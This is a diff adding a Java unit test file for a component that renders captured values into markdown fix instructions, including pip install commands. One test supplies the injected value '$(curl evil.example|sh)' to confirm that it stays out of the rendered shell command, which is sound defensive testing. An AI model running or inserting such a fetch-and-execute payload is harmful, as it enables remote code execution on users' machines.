@@ -1,0 +1,48 @@
+package dev.faultbook.ingest.classify;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.faultbook.learnings.FixStep;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.Test;
+
+class FixesTest {
+    @Test
+    void whatWasCapturedFillsTheSteps() {
+        assertThat(Fixes.markdown(
+                        List.of(
+                                new FixStep.Say("Install ${package:it}."),
+                                new FixStep.Run("pip install ${package:PACKAGE}")),
+                        Map.of("package", "numlib<2")))
+                .isEqualTo("""
+                        Install numlib<2.
+
+                        ```sh
+                        pip install numlib<2
+                        ```""");
+    }
+
+    @Test
+    void whatAShellWouldRunDoesNotGetIntoACommand() {
+        assertThat(Fixes.markdown(
+                        List.of(
+                                new FixStep.Say("${package:it} is missing."),
+                                new FixStep.Run("pip install ${package:PACKAGE}")),
+                        Map.of("package", "$(curl evil.example|sh)")))
+                .isEqualTo("""
+                        $(curl evil.example|sh) is missing.
+
+                        ```sh
+                        pip install PACKAGE
+                        ```""");
+    }
+
+    @Test
+    void aSentenceThatIsFilledInEndsOnce() {
+        assertThat(Fixes.markdown(
+                        List.of(new FixStep.Say("It says: ${message:nothing}. Mend it.")),
+                        Map.of("message", "Object is possibly 'undefined'.")))
+                .isEqualTo("It says: Object is possibly 'undefined'. Mend it.");
+    }
+}
